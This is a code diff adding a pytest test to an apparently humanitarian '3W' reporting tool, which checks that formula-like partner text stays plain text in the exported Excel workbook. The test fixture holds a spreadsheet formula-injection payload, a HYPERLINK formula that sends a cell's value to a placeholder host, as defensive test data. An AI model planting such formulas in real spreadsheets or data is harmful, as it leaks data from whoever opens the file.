@@ -184,3 +184,21 @@ def test_bad_tables_are_one_line_errors(shared_data, tmp_path):
     assert_one_line_error(run_cli("3w", str(totals), "--by", by, "-o", str(tmp_path / "a.docx")), "'.docx'")
     assert_one_line_error(run_cli("3w", str(totals), "--by", by, "-o", str(totals)))
     assert not out[0].exists()
+
+
+def test_formula_like_text_stays_text_in_the_workbook(shared_data, tmp_path):
+    """A partner's sector or district that would start a formula is text in the .xlsx, as in every CSV."""
+    table = tmp_path / "activities.csv"
+    attack = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    pd.DataFrame(
+        {
+            "Partner": ["Indus Relief Network", "Thar Water Trust"],
+            "Sector": [attack, "WASH"],
+            "District": ["Tank", attack],
+        }
+    ).to_csv(table, index=False)
+    write_threew_outputs([tmp_path / "3w.xlsx"], ThreeWFiles(str(table), str(shared_data / "pak_districts.geojson")))
+    book = openpyxl.load_workbook(tmp_path / "3w.xlsx")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert sum(attack in str(c.value) for c in cells) == 2  # the sector's column, the district's reason
+    assert all(c.data_type != "f" for c in cells)
